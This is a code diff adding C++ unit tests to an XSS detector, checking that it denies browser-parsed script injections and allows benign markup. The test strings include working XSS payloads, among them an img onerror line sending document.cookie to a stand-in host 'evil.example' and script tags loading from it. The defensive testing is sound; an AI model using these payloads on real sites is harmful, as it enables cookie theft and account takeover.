@@ -429,6 +429,53 @@ TEST(Xss, ClosedContexts) {
   EXPECT_EQ(verdict_of(analyzer, "\" class=\"x", Location::kBody, false, "v"), "-");
 }
 
+// Each was run by Chromium.
+TEST(Xss, WhatBrowsersReadOtherwise) {
+  const Analyzer& analyzer = analyzer_named("xss");
+  for (const std::string_view text :
+       {"<!--</a x=\"--><script src=//evil.example></script>",
+        "<title></a x=\"</title><script src=//evil.example></script>",
+        "<style></a x=\"</style><script src=//evil.example></script>",
+        "<a href=\"javascript:''-alert(1)\">x</a>", "<a href=\"javascript:0<alert(1)\">x</a>",
+        "<iframe src=\"javascript:''+alert(1)\">",
+        "<form action=\"javascript:''-alert(1)\"><input type=submit>",
+        "<img src=` onerror=fetch('//evil.example/'+document.cookie) alt=`>",
+        "<meta x=` http-equiv=refresh content=0;//evil.example y=`>", "\" src=//evil.example \"",
+        "\" formaction=//evil.example \"", "\" action=//evil.example \"", "\" data=//evil.example \"",
+        "\" srcdoc=x \""})
+    for (const Location location : {Location::kQuery, Location::kBody})
+      EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, text, location, false, "v"))) << text;
+  for (const std::string_view text :
+       {"<a href=\"javascript:void(0)\">x</a>", "<a href=\"javascript:;\">x</a>",
+        "<a href=\"javascript:''\">x</a>", "<b title=`x`>y</b>", "\" a=b \"", "say \"x=1\"", "7\" screen=x",
+        "<img width=\"5\" src=\"http://a.example/b.png\">"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, text, Location::kBody, false, "v"))) << text;
+}
+
+// Elements of HTML that show code do not keep a browser from reading what stands in them.
+TEST(Xss, MarkupInsideOfQuotingElements) {
+  const Analyzer& analyzer = analyzer_named("xss");
+  const std::string prose =
+      "Dear colleagues, the page for the orders of the month is made by a template which the team has kept "
+      "for "
+      "years without a change. It reads all the orders, and nobody remembers why the second column is there "
+      "at "
+      "all. Please look at it, and tell me whether the text is right.";
+  const auto page = [&](std::string_view inner) {
+    return prose + "\n\n" + std::string(inner) + "\n\n" + prose;
+  };
+  for (const std::string_view inner :
+       {"<pre><script>alert(1)</script></pre>", "<pre>\n<script>alert(1)</script>\n</pre>",
+        "<code class=\"x\">\n<img src=x onerror=alert(document.domain)>\n</code>",
+        "<samp>\n<svg onload=alert(1)>\n</samp>"})
+    EXPECT_TRUE(denied_at_balanced(verdict_of(analyzer, page(inner), Location::kBody, false, "v"))) << inner;
+  for (const std::string_view inner :
+       {"```\n<script>alert(1)</script>\n```", "<code html>\n<script>alert(1)</script>\n</code>",
+        "<pre>\n&lt;script&gt;alert(1)&lt;/script&gt;\n</pre>",
+        "<pre>\n&lt;img src=a onerror=\"this.remove()\"&gt;\n</pre>"})
+    EXPECT_FALSE(denied_at_balanced(verdict_of(analyzer, page(inner), Location::kBody, false, "v"))) << inner;
+}
+
 TEST(Xss, VariationsStayDenied) {
   const Analyzer& analyzer = analyzer_named("xss");
   std::size_t made = 0;
